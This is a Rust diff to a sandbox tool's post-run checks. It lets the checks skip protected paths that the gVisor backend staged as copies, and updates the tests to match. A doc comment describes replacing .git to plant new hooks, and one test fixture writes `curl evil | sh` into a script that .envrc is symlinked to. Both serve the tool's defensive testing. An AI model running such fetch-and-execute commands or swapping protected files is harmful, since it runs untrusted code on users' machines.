@@ -60,15 +60,20 @@ pub struct Held {
 ///
 /// All three see the tree through `Inspect`: a directory the run left unreadable or
 /// unsearchable is opened up to be looked into, and given its mode back at the end.
+///
+/// `staged`: protected paths the backend kept out of the command's reach by giving it a copy
+/// (gVisor's staged git dirs): another file there after the run is the host's doing, never
+/// the run's, and is left alone.
 pub fn after_run(
     run: &Resolved,
     host: &dyn HostView,
     run_id: &str,
     held: Held,
     started: std::time::SystemTime,
+    staged: &[PathBuf],
 ) -> Vec<Violation> {
     let inspect = Inspect::new(host, run);
-    let out = after_run_inspecting(run, &inspect, run_id, held, started);
+    let out = after_run_inspecting(run, &inspect, run_id, held, started, staged);
     inspect.restore();
     out
 }
@@ -79,6 +84,7 @@ fn after_run_inspecting(
     run_id: &str,
     held: Held,
     started: std::time::SystemTime,
+    staged: &[PathBuf],
 ) -> Vec<Violation> {
     let own_dirs = || -> Vec<PathBuf> {
         let dirs = run.watch.sweep.roots.iter().map(|r| r.join(".stockade"));
@@ -88,7 +94,7 @@ fn after_run_inspecting(
     // A `.stockade` the restore made (its quarantine) is stockade's own, not the run's.
     let before = own_dirs();
     if !held.pinned {
-        out.extend(replaced_protected(run, host, run_id));
+        out.extend(replaced_protected(run, host, run_id, staged));
     }
     // Both backends: native's creation guard refuses the new link during the run, so there
     // this finds nothing unless a link on the way changed.
@@ -850,10 +856,18 @@ pub const PROTECTED_PATH_REPLACED: &str = "protected_path_replaced";
 /// as when planned. One that is another file (`mv .git .old; mkdir .git; ...` leaves a new
 /// config and hooks at the old names) is quarantined; one that is gone is reported, with where
 /// to look. Paths inside an already quarantined one are skipped.
-pub fn replaced_protected(run: &Resolved, host: &dyn HostView, run_id: &str) -> Vec<Violation> {
+pub fn replaced_protected(
+    run: &Resolved,
+    host: &dyn HostView,
+    run_id: &str,
+    staged: &[PathBuf],
+) -> Vec<Violation> {
     let mut out = Vec::new();
     let mut moved: Vec<PathBuf> = Vec::new();
-    let mut paths: Vec<&PathBuf> = run.spec.protected.iter().chain(&run.spec.pins).collect();
+    let mut paths: Vec<&PathBuf> = (run.spec.protected.iter())
+        .chain(&run.spec.pins)
+        .filter(|p| !staged.contains(p))
+        .collect();
     paths.sort();
     paths.dedup();
     for path in paths {
@@ -1604,7 +1618,7 @@ mod tests {
         std::fs::write(ws.join("evil.sh"), "curl evil | sh\n").unwrap();
         std::fs::remove_file(ws.join(".envrc")).unwrap();
         symlink("evil.sh", ws.join(".envrc")).unwrap();
-        let v = after_run(&plan, &RealHost, "swap", held, started);
+        let v = after_run(&plan, &RealHost, "swap", held, started, &[]);
         assert_eq!(
             std::fs::read_link(ws.join(".envrc")).unwrap(),
             Path::new("envrc.shared"),
@@ -1624,7 +1638,7 @@ mod tests {
         let plan = plan_for(&ws);
         std::fs::remove_file(ws.join(".envrc")).unwrap();
         symlink("envrc.shared", ws.join(".envrc")).unwrap();
-        let v = after_run(&plan, &RealHost, "same", held, started);
+        let v = after_run(&plan, &RealHost, "same", held, started, &[]);
         assert!(v.is_empty(), "{v:?}");
         assert_eq!(
             std::fs::read_link(ws.join(".envrc")).unwrap(),
@@ -1646,7 +1660,7 @@ mod tests {
         );
         std::fs::remove_file(ws.join("shared")).unwrap();
         symlink("b", ws.join("shared")).unwrap();
-        let v = after_run(&plan, &RealHost, "via", held, started);
+        let v = after_run(&plan, &RealHost, "via", held, started, &[]);
         assert!(
             std::fs::symlink_metadata(ws.join(".envrc")).is_err(),
             "{v:?}"
